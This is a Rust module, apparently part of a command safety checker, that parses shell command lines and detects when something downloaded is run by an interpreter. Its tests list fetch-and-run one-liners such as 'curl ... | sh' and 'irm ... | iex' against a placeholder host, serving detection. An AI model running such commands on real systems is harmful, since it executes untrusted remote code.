//! Takes a shell command line apart into simple commands.
//!
//! It understands quotes, escapes, operators, redirections and substitutions well enough to find
//! every command that would run. It expands nothing: that something *would* expand is the answer.

use super::lexer::{Lexer, Variables};
use super::program_name;
use super::reads::{Reads, reads};

/// Programs that download.
const FETCHERS: [&str; 12] = [
    "curl",
    "wget",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "aria2c",
    "fetch",
    "http",
    "https",
    "xh",
    "lynx",
];
/// Stands in a word for what a substitution would leave there; no package name can contain it.
pub const SUBSTITUTED: char = '\u{fffc}';

#[derive(Debug, Default)]
pub struct Script {
    pub commands: Vec<Simple>,
    pub nested: Vec<Nested>,
    /// A variable, glob-free substitution or arithmetic decides part of it at run time.
    pub expands: bool,
    /// A value that may be stale was put in.
    pub unsure: bool,
    /// More values of variables stand in it than are put in.
    pub cut: bool,
    /// The name of a program that downloads stands somewhere in it.
    fetches: bool,
}

#[derive(Debug, Default)]
pub struct Simple {
    pub words: Vec<String>,
    /// Its input is the output of the command before it.
    pub piped: bool,
    /// Files that its output goes to.
    pub written: Vec<String>,
}

/// The text of `$(…)`, `` `…` ``, `<(…)` or a here-document.
#[derive(Debug)]
pub struct Nested {
    pub text: String,
    /// Index of the command that it is part of.
    pub parent: usize,
    pub kind: NestedKind,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NestedKind {
    Substitution,
    /// A here-document: text, unless what takes it runs it.
    Here,
}

impl Script {
    /// Takes a script apart; what it sets is kept in `variables`. The bytes that values of variables
    /// add to it are taken from `budget`.
    pub fn lex(text: &str, variables: &mut Variables, budget: &mut usize) -> Self {
        let mut script = Lexer::new(text, variables, budget).run();
        script.fetches = FETCHERS
            .iter()
            .any(|name| contains_ignoring_case(text, name));
        script
    }

    /// The same without values that may be stale.
    pub fn lex_strict(text: &str, variables: &mut Variables, budget: &mut usize) -> Self {
        Lexer::new(text, variables, budget).strict().run()
    }

    /// Whether something that was just downloaded is handed to an interpreter.
    pub fn runs_download(&self) -> bool {
        if !self.fetches {
            return false;
        }
        let mut downloading = false;
        let mut files: Vec<&str> = Vec::new();
        for command in &self.commands {
            downloading &= command.piped;
            if downloading && command.runs_its_input() || command.runs_one_of(&files) {
                return true;
            }
            downloading |= command.is_download();
            if downloading {
                files.extend(command.downloaded());
            }
        }
        // Commands inside a substitution are a script of their own; here counts what they print.
        self.nested.iter().any(|nested| {
            let parent = self.commands.get(nested.parent);
            nested.kind == NestedKind::Substitution
                && parent.is_none_or(Simple::runs_its_substitution)
                && Self::lex(&nested.text, &mut Variables::new(), &mut 0)
                    .commands
                    .iter()
                    .any(Simple::is_download)
        })
    }

    /// Whether what this command prints is run: by a later part of the pipeline, or because the
    /// file that it is written to is run.
    pub fn output_runs(&self, at: usize) -> bool {
        let later = self.commands.get(at + 1..).unwrap_or_default();
        let own = self.commands.get(at);
        let mut files: Vec<&str> = Vec::new();
        files.extend(
            own.iter()
                .flat_map(|own| &own.written)
                .map(|file| base_name(file)),
        );
        for command in later {
            let piped = files.is_empty() && command.piped && command.takes_commands();
            if piped || command.runs_one_of(&files) {
                return true;
            }
            if command.piped && command.effective().0 == "tee" {
                files.extend(command.words.iter().skip(1).map(|file| base_name(file)));
            }
        }
        false
    }
}

impl Simple {
    /// The program and its arguments, behind the wrappers that matter here.
    fn effective(&self) -> (String, &[String]) {
        let mut words = self.words.as_slice();
        while let Some((first, rest)) = words.split_first() {
            let name = program_name(first);
            let wraps = matches!(
                name.as_str(),
                "sudo"
                    | "env"
                    | "nohup"
                    | "doas"
                    | "exec"
                    | "command"
                    | "time"
                    | "busybox"
                    | "xargs"
            );
            let skipped = wraps || name.starts_with('-') || is_assignment(first);
            if !skipped {
                return (name, rest);
            }
            words = rest;
        }
        (String::new(), &[])
    }

    /// Without an argument it fetches nothing: `curl` in prose is only a word.
    fn is_download(&self) -> bool {
        let (name, rest) = self.effective();
        let plain = matches!(name.as_str(), "fetch" | "http" | "https" | "lynx");
        FETCHERS.contains(&name.as_str())
            && if plain {
                rest.iter().any(|word| is_address(word))
            } else {
                !rest.is_empty()
            }
    }

    /// Whether its words may name a package that it fetches.
    pub fn may_fetch(&self) -> bool {
        let (name, rest) = self.effective();
        !matches!(reads(&name, rest), Reads::Text | Reads::Commands)
    }

    /// Whether it runs what it reads from its input, as shell commands or as words of one.
    pub fn takes_commands(&self) -> bool {
        const TAKE: [&str; 14] = [
            "ssh", "docker", "podman", "nerdctl", "kubectl", "su", "at", "batch", "parallel",
            "make", "crontab", ".", "source", "done",
        ];
        let (name, _) = self.effective();
        let feeds = |word: &String| program_name(word) == "xargs";
        TAKE.contains(&name.as_str()) || self.words.iter().any(feeds) || self.runs_its_input()
    }

    /// Whether it runs its input as code of a language that is no shell's.
    pub fn takes_code(&self) -> bool {
        const CODE: [&str; 6] = ["deno", "bun", "node", "perl", "ruby", "php"];
        let (name, _) = self.effective();
        (CODE.contains(&name.as_str()) || name.starts_with("python")) && self.runs_its_input()
    }

    /// `sh`, `bash -s -- x`, `python3 -`; not `python3 -m json.tool` or `bash build.sh`.
    fn runs_its_input(&self) -> bool {
        let (name, rest) = self.effective();
        if name == "iex" || name == "invoke-expression" {
            return true;
        }
        if !is_interpreter(&name) {
            return false;
        }
        for (at, word) in rest.iter().enumerate() {
            match word.as_str() {
                "-" | "-s" | "/dev/stdin" => return true,
                // `deno run -`; and `xargs sh -c`, which gets its script from the input.
                "run" => {}
                "-c" if at + 1 == rest.len() => return true,
                option if option.starts_with("--") => {}
                option if option.starts_with('-') => {
                    if option.chars().any(|c| "cemnprC".contains(c)) {
                        return false;
                    }
                }
                _ => return false,
            }
        }
        true
    }

    /// Whether the text that a substitution leaves in it is run: `eval $(…)`, `bash -c "$(…)"`.
    pub fn runs_its_substitution(&self) -> bool {
        let (name, rest) = self.effective();
        let first = rest
            .iter()
            .find(|word| !word.starts_with('-') && *word != "run");
        name.contains(SUBSTITUTED)
            || matches!(name.as_str(), "eval" | "source" | "." | "iex")
            || (is_interpreter(&name) && first.is_some_and(|word| word.contains(SUBSTITUTED)))
    }
}

impl Simple {
    /// What `echo` or `printf` prints; nothing for every other program.
    pub fn printed(&self) -> &[String] {
        match self.words.split_first() {
            Some((program, words)) if matches!(program.as_str(), "echo" | "printf") => words,
            _ => &[],
        }
    }

    /// Whether it is an `xargs` behind another command.
    pub fn is_fed(&self) -> bool {
        let first = self.words.first();
        self.piped && first.is_some_and(|word| program_name(word) == "xargs")
    }

    /// Bytes of what [`Self::fed`] would make.
    pub fn fed_bytes(&self, input: &[String]) -> usize {
        let all: usize = input.iter().map(|word| word.len() + 1).sum();
        let places = |word: &String| word.matches("{}").count() * all + word.len();
        all + self.words.iter().map(places).sum::<usize>()
    }

    /// The command that `xargs` makes of the words that are handed to it.
    pub fn fed(&self, input: &[String]) -> Option<Vec<String>> {
        if !self.is_fed() || input.is_empty() {
            return None;
        }
        let all = input.join(" ");
        let words = self.words.iter().map(|word| word.replace("{}", &all));
        Some(words.chain(input.iter().cloned()).collect())
    }

    /// The names of the files in which it leaves what it fetched.
    fn downloaded(&self) -> impl Iterator<Item = &str> {
        const OUTPUTS: [&str; 5] = ["-o", "-O", "--output", "--output-document", "-OutFile"];
        // Without being told to, curl keeps nothing.
        let (name, rest) = self.effective();
        let kept = |word: &String| {
            word.starts_with("--remote-name")
                || (word.starts_with('-') && !word.starts_with("--") && word.contains('O'))
        };
        let keeps = name != "curl" || rest.iter().any(kept);
        let mut after = false;
        let words = self.words.iter().filter_map(move |word| {
            let wanted = std::mem::replace(&mut after, OUTPUTS.contains(&word.as_str()));
            let glued = OUTPUTS.iter().find_map(|option| word.strip_prefix(option));
            let glued = glued.map(|file| file.trim_start_matches('='));
            let file = if wanted || (keeps && word.contains("://")) {
                Some(word.as_str())
            } else {
                glued
            };
            file.map(base_name)
        });
        let written = self.written.iter().map(|file| base_name(file));
        words.chain(written).filter(|name| !name.is_empty())
    }

    /// Whether one of these files is its program, or what its interpreter reads.
    fn runs_one_of(&self, files: &[&str]) -> bool {
        if files.is_empty() {
            return false;
        }
        let program = self.words.iter().find(|word| !is_assignment(word));
        let direct =
            program.is_some_and(|word| word.contains('/') && files.contains(&base_name(word)));
        let (name, rest) = self.effective();
        let reads = is_interpreter(&name) || matches!(name.as_str(), "." | "source");
        let first = rest.iter().find(|word| !word.starts_with('-'));
        direct || (reads && first.is_some_and(|word| files.contains(&base_name(word))))
    }
}

fn contains_ignoring_case(text: &str, name: &str) -> bool {
    let (bytes, name) = (text.as_bytes(), name.as_bytes());
    let first = name.first().copied().unwrap_or_default();
    let starts = bytes
        .iter()
        .enumerate()
        .filter(|(_, byte)| byte.eq_ignore_ascii_case(&first));
    let mut words = starts.filter_map(|(at, _)| bytes.get(at..at + name.len()));
    words.any(|word| word.eq_ignore_ascii_case(name))
}

/// `https://…`, `host.example/x`.
fn is_address(word: &str) -> bool {
    let (host, path) = word.split_once('/').unwrap_or((word, ""));
    word.contains("://")
        || (!path.is_empty() && !host.starts_with('-') && host.trim_matches('.').contains('.'))
}

fn base_name(path: &str) -> &str {
    let path = path.split(['?', '#']).next().unwrap_or(path);
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// `NAME=value` before a command.
pub fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

fn is_interpreter(name: &str) -> bool {
    const NAMES: [&str; 15] = [
        "sh",
        "deno",
        "bun",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "fish",
        "ash",
        "node",
        "perl",
        "ruby",
        "php",
        "powershell",
        "pwsh",
    ];
    NAMES.contains(&name)
        || name
            .strip_prefix("python")
            .is_some_and(|rest| !rest.starts_with('-'))
}

#[cfg(test)]
mod tests {
    use super::{Script, Variables};

    fn lex(text: &str) -> Script {
        Script::lex(text, &mut Variables::new(), &mut 1024)
    }

    fn commands(text: &str) -> Vec<Vec<String>> {
        let script = lex(text);
        script
            .commands
            .into_iter()
            .map(|command| command.words)
            .collect()
    }

    #[test]
    fn every_simple_command_is_found() {
        assert_eq!(
            commands("a b|c; d && e 'f g' >out 2>&1"),
            [vec!["a", "b"], vec!["c"], vec!["d"], vec!["e", "f g"]]
        );
        assert_eq!(commands("a\\ b \"c\\\"d\" # e"), [vec!["a b", "c\"d"]]);
        assert_eq!(commands("a\n\nb &"), [vec!["a"], vec!["b"]]);
        assert!(commands("  ").is_empty());
    }

    #[test]
    fn a_download_that_is_run_is_seen_in_every_shape() {
        for text in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- https://x.example | sudo -E bash -",
            "bash -c \"$(curl -fsSL https://x.example)\"",
            "$(curl https://x.example)",
            "bash <(curl -s https://x.example)",
            "eval `wget -O- https://x.example`",
            "cd /tmp && curl https://x.example | tee i.sh | python3",
            "source <(curl -s https://x.example)",
            "irm https://x.example | iex",
            "bash -c \"cd /tmp; $(curl https://x.example)\"",
        ] {
            assert!(lex(text).runs_download(), "{text}");
        }
        for text in [
            "curl https://x.example/data.json | jq .name",
            "curl -o out https://x.example; sh build.sh",
            "echo \"$(curl -s https://x.example/ip)\"",
            "bash -c 'echo hi'",
            "cat curl | sort",
            "curl -s https://x.example/a.json | python3 -m json.tool",
            "curl -s https://x.example/a.json | python3 -c 'import sys'",
            "curl -s https://x.example/a.txt | bash count-lines.sh",
            "bash deploy.sh \"$(curl -s https://x.example/ip)\"",
            "echo curl '|' sh",
            "`curl` and `sh` are programs",
        ] {
            assert!(!lex(text).runs_download(), "{text}");
        }
    }
}
